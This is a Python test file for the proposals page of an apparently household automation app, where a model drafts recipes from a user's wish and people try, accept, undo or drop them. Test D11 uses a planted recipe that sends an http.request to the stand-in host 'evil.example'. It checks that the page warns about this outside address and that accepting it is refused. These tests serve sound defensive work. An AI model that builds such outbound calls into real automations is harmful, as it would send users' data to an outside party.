"""The page "New": a wish becomes a proposal, which is tried on the past, accepted and taken back."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator

import pytest

from tests.modules.chat_server import ChatServer, chat_server, endless, streamed
from tests.surfaces.cli.command_line import until
from tests.surfaces.cli.test_proposing import BOTH, GOOD, MEMORY, RECIPE, files
from tests.surfaces.web.household import PagesOfHome, at_work, browsing, make_show
from tests.surfaces.web.test_past import over

SEND = RECIPE.format(target="http.request", argument='<request url="https://evil.example/?a=&lt;b>"/>')


@pytest.fixture(scope="module")
def server() -> Iterator[ChatServer]:
    with chat_server() as made:
        yield made


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory, server: ChatServer) -> Iterator[PagesOfHome]:
    home = make_show(tmp_path_factory.mktemp("new") / "home")
    settings = home.path / "etc/narval.toml"
    before = settings.read_text() if settings.exists() else ""
    model = f'[models.near]\nurl = "{server.url}"\nmodel = "tiny"\n[propose]\nmodel = "near"\n'
    settings.write_text(f"{before}\n{model}")
    with at_work(home), browsing(home) as pages:
        yield pages


def drafted(pages: PagesOfHome, where: str) -> str:
    """The state of a proposal, once no model is at it."""
    turn = pages.ask("changed")["turn"]
    while (row := pages.ask("proposal", name=where.rpartition("/")[2]))["state"] == "drafting":
        turn = pages.ask("changed", after=turn, wait=60.0)["turn"]
    return str(row["state"])


def test_D10_a_wish_is_drafted_tried_accepted_and_taken_back(pages: PagesOfHome, server: ChatServer) -> None:
    server.will_say(streamed("--- question: Which <bills>?"), streamed("no"), streamed(BOTH))
    pages.shows("/proposals", "Say what you want", "There is no proposal.", "narval proposals")
    where = pages.does("/proposals", wish="note my <b>bills")
    assert where == "/proposals/note-my-b-bills"
    assert drafted(pages, where) == "asks"
    text = pages.shows(where, "Which &lt;bills&gt;?", "note my &lt;b&gt;bills", "asks")
    forms = text.partition('<div id="live_forms">')[2].partition('<div id="live_rest">')[0]
    assert 'name="answer"' in forms, "a page that is open shows what is asked"
    assert pages.does(f"{where}/answers", answer="all") == where
    assert drafted(pages, where) == "ready"
    text = pages.shows(
        where,
        "recipe",
        "What it does",
        "Note each bill.",
        "It needs nothing outside the home",
        "Round 2",
        "mine.bills",
    )
    digest = re.search(r'name="digest" value="([0-9a-f]{64})"', text)
    assert digest is not None
    assert 'name="untried"' in text
    trial = pages.does(f"{where}/past", since="1d")
    assert over(pages, trial)["state"] == "ended"
    pages.shows(trial, where, "mine.bills on the past")
    assert 'name="untried"' not in pages.shows(where, "it would have begun 0 times")
    assert pages.does(f"{where}/accept", digest=digest[1]) == where
    pages.shows(where, "Accepted by ann", "Take it back")
    assert "mine.bills" in [row["name"] for row in pages.ask("definitions")["definitions"]]
    pages.ask("add", elements=[b"<bill number='1'/>"])
    until(lambda: [run["state"] for run in pages.ask("runs", name="mine.bills")] == ["done", "running"])
    assert pages.does(f"{where}/undo") == where
    assert [run["state"] for run in pages.ask("runs", name="mine.bills")] == ["done", "cancelled"]
    assert pages.does(f"{where}/drop") == "/proposals"
    assert pages.ask("proposals") == []


def test_D11_what_nobody_named_stands_first_and_nothing_else_is_accepted(
    pages: PagesOfHome, server: ChatServer
) -> None:
    pages.ask("add", elements=[b"<bill number='2'/>", b"<bill number='3'/>"])
    server.will_say(streamed(files(bills=SEND, more=GOOD.replace('"bills"', '"notes"'), memory=MEMORY)))
    where = pages.does("/proposals", wish="look at my bills")
    assert drafted(pages, where) == "ready"
    text = pages.shows(where, "evil.example", "<h3>recipe mine.bills</h3>", "<h3>recipe mine.notes</h3>")
    if shutil.which("dot") is not None:
        pages.shows(where, "The graph of mine.bills", "The graph of mine.notes")
    ids = re.findall(r' id="([^"]+)"', text)
    assert len(ids) == len(set(ids))
    at_once = text.index('<p class="problem">Once accepted, mine.bills takes at once the ')
    warning = text.index('<ul class="problem">')
    assert at_once < warning < text.index("What it does")
    assert "It has an address at evil.example" in text[warning : warning + 200]
    refused = pages.post(f"{where}/accept", digest="0" * 64, untried="1")
    assert "no longer what was shown" in refused.text
    assert not (pages.home.path / "recipes/look-at-my-bills").exists()


def test_D6_a_draft_is_ended_by_a_button_keeps_its_rounds_and_goes_on(
    pages: PagesOfHome, server: ChatServer
) -> None:
    server.asked.clear()
    server.will_say(streamed("--- question: Which?"), endless(b": wait\n\n", 0.01))
    where = pages.does("/proposals", wish="end this")
    assert drafted(pages, where) == "asks"
    assert pages.does(f"{where}/answers", answer="all of them") == where
    pages.shows(where, "What it asked", "all of them")  # kept before a model is asked
    until(lambda: len(server.asked) == 2)
    pages.shows(where, "drafting", ">End it</button>", "<progress", "round 2 of 5")
    assert "a model is at proposal end-this" in pages.post(f"{where}/drop").text
    assert pages.does(f"{where}/end") == where
    text = pages.shows(where, "failed", "ann ended it", "Round 1", "Go on", "Drop it")
    assert "Nothing of it runs before somebody accepts it. Dropping deletes it." in text
    assert ">End it<" not in text
    assert pages.does(f"{where}/end") == where  # once more: it stays as it is
    server.will_say(streamed(BOTH))
    assert pages.does(f"{where}/answers") == where
    assert drafted(pages, where) == "ready"
    assert len(pages.ask("proposal", name="end-this")["rounds"]) == 2
